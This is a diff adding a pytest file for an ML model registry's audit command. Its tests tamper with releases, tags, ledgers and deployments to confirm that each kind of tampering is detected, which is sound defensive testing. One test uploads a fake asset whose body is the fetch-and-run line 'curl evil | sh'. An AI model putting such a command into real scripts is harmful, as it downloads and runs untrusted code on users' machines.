@@ -1,0 +1,237 @@
+"""An honest version has no broken link; each way to tamper breaks the link that tells of it. All over real HTTP."""
+
+import hashlib
+import json
+from collections.abc import Iterator
+from pathlib import Path
+
+import msgspec
+import pytest
+
+from merganser import git
+from merganser.commands import audit
+from merganser.errors import ConfigError
+from merganser.forge.mirror import credentials
+from merganser.forge.secret import Secret
+from merganser.git import Repository
+from merganser.registry.audit.links import Chain, Link, State
+from tests.commands.audited import TAG, Shipped, of_state, prepare_shipped, rewritten, shipped
+from tests.commands.stage import REPO, Moment
+
+LEDGER = "refs/remotes/origin/merganser-ledger"
+PUSHED = "refs/heads/merganser-ledger"
+
+
+@pytest.fixture(scope="module")
+def moment(moments: dict[str, Moment], tmp_path_factory: pytest.TempPathFactory) -> Moment:
+    return prepare_shipped(moments["promote"], tmp_path_factory.mktemp("shipped"))
+
+
+@pytest.fixture
+def ship(moment: Moment, tmp_path: Path) -> Iterator[Shipped]:
+    with shipped(moment, tmp_path) as made:
+        yield made
+
+
+def broken(chains: tuple[Chain, ...]) -> dict[str, Link]:
+    return of_state(chains, State.broken)
+
+
+def test_an_honest_version_is_verified_link_by_link(ship: Shipped) -> None:
+    chains = ship.audit()
+    assert broken(chains) == {}
+    assert set(of_state(chains, State.unverifiable)) == {"ledger/as seen before"}
+    assert {
+        "tag/commit", "tag/on GitHub", "ledger/only added to", "ledger/record", "run/run.json", "run/inputs",
+        "run/trained tree", "run/trained", "verdict/verdict.json", "verdict/passed", "release/published",
+        "release/model.json", "release/model file model.json", "people/merged",
+    } <= set(of_state(chains, State.verified))  # fmt: skip
+    assert audit.exit_code(chains) == 0
+    asset = next(one for one in ship.release()["assets"] if one["name"] == "model.json")
+    assert of_state(chains, State.verified)["release/model.json"].says == asset["digest"]
+
+
+def test_what_an_environment_runs(ship: Shipped) -> None:
+    there = ship.audit(None, env="staging")
+    assert broken(there) == {}
+    found = of_state(there, State.verified)
+    assert {"environment staging/model", "environment staging/commit", "tag/commit"} <= set(found)
+    assert found["environment staging/deployed by"].says.startswith(
+        "acme/environments#1 by merganser[bot], merged by ada"
+    )
+    here = ship.audit("tiny", env="staging", environments=ship.environments)
+    assert set(of_state(here, State.verified)) == set(found)
+    assert ship.audit(None, env="production") == ()
+    with pytest.raises(ConfigError, match="'prod' is no environment"):
+        ship.audit(None, env="prod")
+
+
+def test_offline_says_so_wherever_only_github_could_tell(ship: Shipped) -> None:
+    chains = ship.audit(offline=True)
+    asked = {name for name, link in of_state(chains, State.unverifiable).items() if "--offline" in link.says}
+    assert asked == {"tag/on GitHub", "ledger/on GitHub", "run/trained", "release/published", "people/merged"}
+    assert broken(chains) == {}
+    with pytest.raises(ConfigError, match="environments repo can't be read"):
+        ship.audit(None, env="staging", offline=True)
+
+
+def test_a_refusal_of_githubs_is_a_reason_and_no_error(ship: Shipped) -> None:
+    away = msgspec.structs.replace(ship.runtime, api_url="http://127.0.0.1:9/api/v3", token=Secret(""))
+    chains = audit.audit(audit.Request(folder=ship.model, everything=True), away)
+    said = {link.says for link in of_state(chains, State.unverifiable).values()}
+    assert any(
+        says.startswith("GitHub doesn't answer for acme/tiny, without a token (GITHUB_TOKEN): ") for says in said
+    )
+    assert audit.exit_code(chains) == 0
+
+
+# Tampering: what was done, and the links that have to tell.
+
+
+def test_a_changed_byte_of_the_model(ship: Shipped) -> None:
+    content = ship.asset("model.json")
+    ship.replace("model.json", bytes([content[0] ^ 1]) + content[1:])
+    found = broken(ship.audit())
+    assert set(found) == {"release/model.json", "release/model file model.json"}
+    assert found["release/model.json"].expected != found["release/model.json"].found
+
+
+def test_a_changed_byte_with_new_sums(ship: Shipped) -> None:
+    """Whoever changes the sums too is told by the run."""
+    content = ship.asset("model.json")
+    sums = ship.asset("SHA256SUMS")
+    old, new = (hashlib.sha256(data).hexdigest().encode() for data in (content, b"other"))
+    ship.replace("model.json", b"other")
+    ship.replace("SHA256SUMS", sums.replace(old, new))
+    assert set(broken(ship.audit())) == {"release/model file model.json"}
+
+
+def test_an_edited_run(ship: Shipped) -> None:
+    run = json.loads(ship.asset("run.json"))
+    run["metrics"]["accuracy"] = 0.999
+    ship.replace("run.json", json.dumps(run).encode())
+    found = broken(ship.audit())
+    assert set(found) == {"run/run.json", "release/run.json"}
+    link = found["run/run.json"]
+    assert (link.expected, link.found) == ("metrics.accuracy 0.99", "metrics.accuracy 0.999")
+
+
+def test_an_edited_verdict(ship: Shipped) -> None:
+    verdict = json.loads(ship.asset("verdict.json"))
+    verdict["trust"] = "sealed"
+    ship.replace("verdict.json", json.dumps(verdict).encode())
+    assert set(broken(ship.audit())) == {"verdict/verdict.json", "release/verdict.json"}
+
+
+def test_a_lost_and_a_new_asset(ship: Shipped) -> None:
+    ship.delete("predictions.csv")
+    ship.upload("setup.sh", b"curl evil | sh")
+    assert set(broken(ship.audit())) == {"release/predictions.csv", "release/setup.sh"}
+
+
+def test_a_release_that_was_deleted(ship: Shipped) -> None:
+    ship.ask("DELETE", ship.release()["url"])
+    assert set(broken(ship.audit())) == {"release/published"}
+
+
+def test_a_moved_tag(ship: Shipped) -> None:
+    message = ship.git("for-each-ref", "--format=%(contents)", f"refs/tags/{TAG}")
+    ship.git("tag", "--force", "--annotate", "--file=-", TAG, "HEAD~1", stdin=message)
+    assert set(broken(ship.audit())) == {"tag/commit", "tag/on GitHub", "run/inputs"}
+    ship.git("push", "--quiet", "--force", "origin", f"refs/tags/{TAG}")
+    found = broken(ship.audit())
+    assert set(found) == {"tag/commit", "run/inputs"}
+    assert found["tag/commit"].found == ship.git("rev-parse", "HEAD~1")
+
+
+def test_a_tag_that_was_made_again_without_its_evidence(ship: Shipped) -> None:
+    """It names no record any more; the record of its new commit is not what the release holds."""
+    ship.git("tag", "--force", "--annotate", "-m", "Registering artifact tiny version v0.1.0", TAG, "HEAD~1")
+    ship.git("push", "--quiet", "--force", "origin", f"refs/tags/{TAG}")
+    assert set(broken(ship.audit())) == {
+        "run/run.json", "verdict/verdict.json", "release/model file model.json", "release/evaluated predictions.csv"
+    }  # fmt: skip
+
+
+def test_a_tag_that_was_deleted_on_github(ship: Shipped) -> None:
+    ship.git("push", "--quiet", "origin", f":refs/tags/{TAG}")
+    assert set(broken(ship.audit())) == {"tag/on GitHub"}
+
+
+def record_path(ship: Shipped) -> str:
+    message = ship.git("for-each-ref", "--format=%(contents)", f"refs/tags/{TAG}")
+    return next(line.removeprefix("Ledger: ") for line in message.splitlines() if line.startswith("Ledger: "))
+
+
+def better(ship: Shipped) -> tuple[str, bytes]:
+    """The record that the tag names, with a better accuracy."""
+    path = record_path(ship)
+    record = json.loads(ship.git("show", f"{LEDGER}:{path}"))
+    record["metrics"]["accuracy"] = 1.0
+    return path, json.dumps(record).encode()
+
+
+def test_a_ledger_that_was_replaced(ship: Shipped) -> None:
+    commit = rewritten(Repository(ship.model), LEDGER, *better(ship))
+    ship.git("push", "--quiet", "--force", "origin", f"{commit}:{PUSHED}")
+    ship.git("fetch", "--quiet", "origin")
+    found = broken(ship.audit())
+    assert set(found) == {"ledger/as seen before", "run/run.json"}
+    assert found["run/run.json"].expected == "metrics.accuracy 1.0"
+
+
+def test_a_clone_that_saw_the_ledger_before_it_was_replaced(ship: Shipped) -> None:
+    """It tells without fetching: GitHub's branch doesn't continue what the clone has."""
+    commit = rewritten(Repository(ship.model), LEDGER, *better(ship))
+    fresh = ship.folder / "eve"
+    env = credentials(Secret(ship.token), ship.hub.url)
+    git.run(["clone", "-q", "--bare", str(ship.model), str(fresh)], ship.folder)
+    git.run(["fetch", "-q", str(ship.model), commit], fresh)
+    git.run(["push", "-q", "--force", f"{ship.hub.url}/{REPO}.git", f"{commit}:{PUSHED}"], fresh, env=env)
+    assert set(broken(ship.audit())) == {"ledger/on GitHub"}
+
+
+def test_a_record_that_was_changed_by_one_more_commit(ship: Shipped) -> None:
+    path, content = better(ship)
+    ship.git("checkout", "--quiet", "-b", "ledger", LEDGER)
+    (ship.model / path).write_bytes(content)
+    ship.git("commit", "--quiet", "--all", "--message", "Better")
+    ship.git("push", "--quiet", "origin", f"HEAD:{PUSHED}")
+    ship.git("checkout", "--quiet", "main")
+    found = broken(ship.audit())
+    assert set(found) == {"ledger/only added to", "run/run.json"}
+    assert found["ledger/only added to"].found == f"{path} changed"
+
+
+def test_a_verdict_that_was_changed_and_a_record_that_was_deleted(ship: Shipped) -> None:
+    ship.git("checkout", "--quiet", "-b", "ledger", LEDGER)
+    path = record_path(ship)
+    stem = path.removeprefix("runs/").removesuffix(".json")
+    verdict = next((ship.model / "verdicts").glob(f"{stem}-*.json"))
+    verdict.write_text(verdict.read_text().replace("self-reported", "sealed"))
+    (ship.model / path).unlink()
+    ship.git("commit", "--quiet", "--all", "--message", "Clean up")
+    ship.git("push", "--quiet", "origin", f"HEAD:{PUSHED}")
+    ship.git("checkout", "--quiet", "main")
+    found = broken(ship.audit())
+    assert set(found) == {"ledger/only added to", "ledger/contents", "ledger/record"}
+    assert "and 1 more" in found["ledger/only added to"].says
+
+
+def test_a_ledger_that_was_deleted(ship: Shipped) -> None:
+    ship.git("push", "--quiet", "origin", f":{PUSHED}")
+    assert set(broken(ship.audit())) == {"ledger/branch"}
+
+
+def test_a_deployment_that_nobody_reviewed(ship: Shipped) -> None:
+    """Another digest, pushed past the pull request."""
+    file = ship.environments / "staging" / "tiny" / "release.yaml"
+    digest = next(line.split()[-1] for line in file.read_text().splitlines() if line.startswith("  digest"))
+    file.write_text(file.read_text().replace(digest, "sha256:" + "0" * 64))
+    env = credentials(Secret(ship.token), ship.hub.url)
+    who = ("-c", "user.name=Eve", "-c", "user.email=eve@example.org")
+    git.run([*who, "commit", "-qam", "Faster"], ship.environments)
+    git.run(["push", "-q", "origin", "HEAD:main"], ship.environments, env=env)
+    for fields in ({}, {"environments": ship.environments}):
+        found = broken(ship.audit(None, env="staging", **fields))
+        assert set(found) == {"environment staging/model", "environment staging/deployed by"}
